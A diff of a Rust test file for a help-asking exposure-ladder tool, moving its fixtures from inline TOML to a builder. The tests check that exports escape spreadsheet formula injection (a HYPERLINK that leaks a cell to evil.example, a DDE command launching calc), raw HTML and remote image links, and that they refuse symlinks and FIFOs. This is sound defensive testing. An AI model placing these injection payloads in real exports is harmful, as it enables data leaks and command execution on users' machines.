@@ -5,28 +5,18 @@ use std::fs;
 #[cfg(unix)]
 use std::path::Path;
 
-use crate::common::Sandbox;
+use crate::common::{Fixture, Sandbox};
 
-const FORMULAS: &str = r#"version = 1
-
-[[rung]]
-id = 1
-ask = "=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")"
-stakes = 20
-who = "@SUM(A1:A9)"
-tags = ["+cmd|' /C calc'!A0", "work"]
-
-[[rung]]
-id = 2
-ask = "-5 minutes early, ask <b>Sam</b> & Jo | both ![](http://t.example/p.png)"
-stakes = 30
-
-[[attempt]]
-id = 1
-rung = 1
-at = 2026-11-20T10:00:00+01:00
-note = "=1+1"
-"#;
+fn formulas() -> String {
+    Fixture::version(1)
+        .rung(1, "=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")", 20)
+        .who("@SUM(A1:A9)")
+        .tags(&["+cmd|' /C calc'!A0", "work"])
+        .rung(2, "-5 minutes early, ask <b>Sam</b> & Jo | both ![](http://t.example/p.png)", 30)
+        .attempt(1, 1, "2026-11-20T10:00:00+01:00")
+        .note("=1+1")
+        .text()
+}
 
 fn csv_rows(s: &Sandbox) -> Vec<csv::StringRecord> {
     let csv = s.ok(&["export", "--format", "csv"]);
@@ -35,7 +25,7 @@ fn csv_rows(s: &Sandbox) -> Vec<csv::StringRecord> {
 
 #[test]
 fn csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe() {
-    let s = Sandbox::with(FORMULAS);
+    let s = Sandbox::with(&formulas());
     let rows = csv_rows(&s);
     assert_eq!(&rows[0][1], "'=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")");
     assert_eq!(&rows[0][3], "'@SUM(A1:A9)");
@@ -50,7 +40,7 @@ fn csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe() {
 
 #[test]
 fn markdown_escapes_raw_html_and_keeps_the_table_whole() {
-    let s = Sandbox::with(FORMULAS);
+    let s = Sandbox::with(&formulas());
     let md = s.ok(&["export"]);
     let row = md.lines().find(|l| l.starts_with("| 2 |")).expect("rung 2's row");
     assert_eq!(
@@ -60,11 +50,13 @@ fn markdown_escapes_raw_html_and_keeps_the_table_whole() {
     assert!(!md.contains("<b>") && !md.contains("!["), "{md}");
 }
 
-const LADDER: &str = "version = 1\n\n[[rung]]\nid = 1\nask = \"Ask Sam for help\"\nstakes = 20\n";
+fn ladder() -> String {
+    Fixture::version(1).rung(1, "Ask Sam for help", 20).text()
+}
 
 #[test]
 fn export_to_standard_output_by_name_works_in_a_pipe() {
-    let s = Sandbox::with(LADDER);
+    let s = Sandbox::with(&ladder());
     let expected = s.ok(&["export", "--format", "csv"]);
     for name in ["/dev/stdout", "-"] {
         let out = s.ladder(&["export", "--format", "csv", "--output", name]).output().unwrap();
@@ -79,7 +71,7 @@ fn export_to_standard_output_by_name_works_in_a_pipe() {
 #[test]
 fn an_existing_export_file_ends_up_private() {
     use std::os::unix::fs::PermissionsExt;
-    let s = Sandbox::with(LADDER);
+    let s = Sandbox::with(&ladder());
     let report = s.path("report.md");
     fs::write(&report, "old report").unwrap();
     fs::set_permissions(&report, fs::Permissions::from_mode(0o644)).unwrap();
@@ -107,7 +99,7 @@ fn refused_output(s: &Sandbox, path: &Path, words: &str) {
 #[test]
 fn an_output_that_is_not_a_regular_file_is_refused() {
     use std::os::unix::fs::symlink;
-    let s = Sandbox::with(LADDER);
+    let s = Sandbox::with(&ladder());
     let fifo = s.path("pipe");
     assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());
     refused_output(&s, &fifo, "is not a regular file (a device, a pipe or a socket)");
@@ -125,73 +117,44 @@ fn an_output_that_is_not_a_regular_file_is_refused() {
     let to_ladder = s.path("to-ladder.toml");
     symlink(s.file(), &to_ladder).unwrap();
     refused_output(&s, &to_ladder, "is your ladder file");
-    assert_eq!(s.read(), LADDER);
+    assert_eq!(s.read(), ladder());
 }
 
 /// A ladder with everything a therapist asks about: fears and what came of them, the predicted chance of a yes,
 /// thanks, a hesitation (promoted), help given.
-const THERAPY: &str = r#"version = 1
-
-[settings]
-repeat = 3
-comfortable = 25
-habituation = 40
-
-[[rung]]
-id = 1
-ask = "Ask Sam to look at one slide"
-stakes = 35
-who = "Sam"
-tags = ["work"]
-fear = "He'll think I can't do my job"
-chance = 40
-
-[[rung]]
-id = 2
-ask = "Ask Jo for a lift"
-stakes = 45
-
-[[attempt]]
-id = 1
-rung = 1
-at = 2026-11-20T10:00:00+01:00
-outcome = "yes"
-before = 50
-after = 20
-note = "He was glad"
-fear_happened = false
-thanked = true
-
-[[attempt]]
-id = 2
-rung = 1
-at = 2026-11-21T10:00:00+01:00
-outcome = "no"
-fear_happened = true
-
-[[hesitation]]
-id = 1
-at = 2026-11-19T09:00:00+01:00
-text = "Ask Jo for a lift"
-story = "I'd be a burden"
-stakes = 45
-rung = 2
-
-[[hesitation]]
-id = 2
-at = 2026-11-21T09:00:00+01:00
-text = "Ask the pharmacist"
-
-[[gave]]
-id = 1
-at = 2026-11-21T12:00:00+01:00
-to = "Sam"
-text = "Reviewed his slides"
-"#;
+fn therapy() -> String {
+    Fixture::version(1)
+        .setting("repeat", 3)
+        .setting("comfortable", 25)
+        .setting("habituation", 40)
+        .rung(1, "Ask Sam to look at one slide", 35)
+        .who("Sam")
+        .tags(&["work"])
+        .fear("He'll think I can't do my job")
+        .chance(40)
+        .rung(2, "Ask Jo for a lift", 45)
+        .attempt(1, 1, "2026-11-20T10:00:00+01:00")
+        .outcome("yes")
+        .before(50)
+        .after(20)
+        .note("He was glad")
+        .fear_happened(false)
+        .thanked()
+        .attempt(2, 1, "2026-11-21T10:00:00+01:00")
+        .outcome("no")
+        .fear_happened(true)
+        .hesitation(1, "2026-11-19T09:00:00+01:00", "Ask Jo for a lift")
+        .story("I'd be a burden")
+        .stakes(45)
+        .set("rung", 2)
+        .hesitation(2, "2026-11-21T09:00:00+01:00", "Ask the pharmacist")
+        .gave(1, "2026-11-21T12:00:00+01:00", "Sam", "Reviewed his slides")
+        .text()
+}
 
 #[test]
 fn markdown_has_fears_predictions_thanks_hesitations_help_and_the_whole_rule() {
-    let s = Sandbox::with(THERAPY);
+    let s = Sandbox::with(&therapy());
     let md = s.ok(&["export"]);
     // Sam said no on 21 Nov: asks of Sam rest for a week, so the next step is #2 (issue 30).
     let expected = "\
@@ -247,7 +210,7 @@ Moments of wanting to ask and holding back.
 
 #[test]
 fn csv_appends_the_new_columns_and_keeps_the_old_ones_in_place() {
-    let s = Sandbox::with(THERAPY);
+    let s = Sandbox::with(&therapy());
     let csv = s.ok(&["export", "--format", "csv"]);
     let lines: Vec<&str> = csv.split("\r\n").collect();
     assert_eq!(
@@ -270,7 +233,7 @@ fn csv_appends_the_new_columns_and_keeps_the_old_ones_in_place() {
 
 #[test]
 fn json_adds_hesitations_gifts_and_the_rule_and_keeps_every_field() {
-    let s = Sandbox::with(THERAPY);
+    let s = Sandbox::with(&therapy());
     let text = s.ok(&["export", "--format", "json"]);
     let keys: Vec<&str> = text.lines().filter_map(|l| l.strip_prefix("  \"")?.split('"').next()).collect();
     assert_eq!(keys, ["exported", "settings", "rungs", "progress", "hesitations", "gifts", "mastery_rule", "plans"]);
@@ -291,7 +254,7 @@ fn json_adds_hesitations_gifts_and_the_rule_and_keeps_every_field() {
 #[test]
 fn a_symlink_planted_in_a_shared_folder_is_not_followed() {
     use std::os::unix::fs::{PermissionsExt, symlink};
-    let s = Sandbox::with(LADDER);
+    let s = Sandbox::with(&ladder());
     let shared = s.path("tmp");
     fs::create_dir(&shared).unwrap();
     fs::set_permissions(&shared, fs::Permissions::from_mode(0o1777)).unwrap();
